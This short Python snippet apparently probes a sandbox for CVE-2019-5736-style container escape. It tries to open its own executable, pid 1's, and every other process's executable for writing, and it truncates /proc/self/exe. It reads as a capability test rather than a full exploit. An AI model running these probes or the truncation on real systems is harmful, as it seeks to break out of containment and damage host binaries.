# CVE-2019-5736 style: open the executable of ourselves and of every
# visible process (pid 1 might be a host-side runtime binary) for writing.
def open_w(p):
    fd = os.open(p, os.O_WRONLY)
    os.close(fd)
attempt('self-exe-write', lambda: open_w('/proc/self/exe'))
attempt('pid1-exe-write', lambda: open_w('/proc/1/exe'))
for d in sorted(os.listdir('/proc')):
    if d.isdigit() and d not in ('1', str(os.getpid())):
        attempt('pid-exe-write', lambda d=d: open_w('/proc/%s/exe' % d))
attempt('python-binary-write', lambda: open_w(os.path.realpath(sys.executable)))
# Replacing our own exe link target through /proc/self/fd tricks.
attempt('self-exe-truncate', lambda: os.truncate('/proc/self/exe', 0))
print('DONE')
